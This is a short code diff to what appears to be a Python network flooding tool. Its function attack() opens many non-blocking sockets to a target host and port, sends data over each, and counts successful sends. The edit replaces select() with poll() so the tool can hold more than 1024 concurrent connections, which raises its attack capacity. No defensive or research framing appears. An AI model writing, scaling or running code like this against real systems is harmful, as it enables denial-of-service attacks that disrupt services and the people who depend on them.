@@ -403,7 +403,9 @@ def attack(address, data, count, seconds):
         sock = socket.socket()
         sock.setblocking(False)
         sock.connect_ex((host, int(port)))
-        if select.select([], [sock], [], 0.05)[1]:
+        ready = select.poll()  # select(2) knows no descriptors from 1024 on
+        ready.register(sock, select.POLLOUT)
+        if ready.poll(50):
             try:
                 sock.send(data)
                 made += 1
